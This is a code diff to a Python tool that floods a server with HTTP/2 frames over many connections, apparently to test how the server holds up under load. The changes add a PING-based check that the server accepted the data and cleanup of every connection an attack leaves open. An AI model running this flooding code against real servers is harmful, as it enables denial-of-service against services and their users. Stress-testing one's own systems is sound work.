@@ -61,21 +61,27 @@ def setting(name, value):
     return name.to_bytes(2, "big") + value.to_bytes(4, "big")
 
 
+LAST = frame(PING, 0, 0, b"the last")
+LAST_ACK = b"the last"
+
+
 class Peer:
     """A connection that takes what it is told to send as fast as the other side reads it."""
 
     KEEP = 1 << 16  # of what comes
+    every = []  # that an attack leaves open when it fails
 
     def __init__(self, address, out=b"", reads=True, small=False):
         host, port = address.rsplit(":", 1)
         self.sock = socket.socket()
+        self.every.append(self)
         if small:
             self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
         self.sock.settimeout(10)
         self.sock.connect((host, int(port)))
         self.sock.setblocking(False)
         self.out, self.at, self.reads = memoryview(out), 0, reads
-        self.got, self.received, self.closed = bytearray(), 0, False
+        self.got, self.last, self.received, self.closed = bytearray(), b"", 0, False
 
     def send_more(self, data):
         self.out, self.at = memoryview(bytes(self.out[self.at :]) + data), 0
@@ -91,11 +97,17 @@ class Peer:
                 data = self.sock.recv(1 << 16)
                 self.received += len(data)
                 self.got += data[: self.KEEP - len(self.got)]
+                self.last = (self.last + data)[-64:]
                 self.closed = self.closed or not data
         except BlockingIOError:
             pass
         except OSError:
             self.closed = True
+
+    @classmethod
+    def close_every(cls):
+        while cls.every:
+            cls.every.pop().close()
 
     def close(self):
         self.closed = True
@@ -132,12 +144,15 @@ def flood(address, chunk, total, reads=True, start=None, seconds=30):
     while sent < total and time.monotonic() < deadline:
         many = min(total - sent, 20000)
         try:
-            peer = Peer(address, start + chunk * many, reads)
+            peer = Peer(address, start + chunk * many + (LAST if reads else b""), reads)
         except OSError:
             time.sleep(0.005)  # a full backlog
             continue
         connections += 1
-        play([peer], 5)
-        sent += max(1, (peer.at - len(start)) // len(chunk))
+        # What was sent is not yet taken: a close would throw it away.
+        play([peer], 10, until=lambda: peer.closed or (peer.done() and (not reads or LAST_ACK in peer.last)))
+        if not reads:
+            play([peer], 0.3, until=lambda: peer.closed)
+        sent += max(1, min(many, (peer.at - len(start)) // len(chunk)))
         peer.close()
     return sent, connections
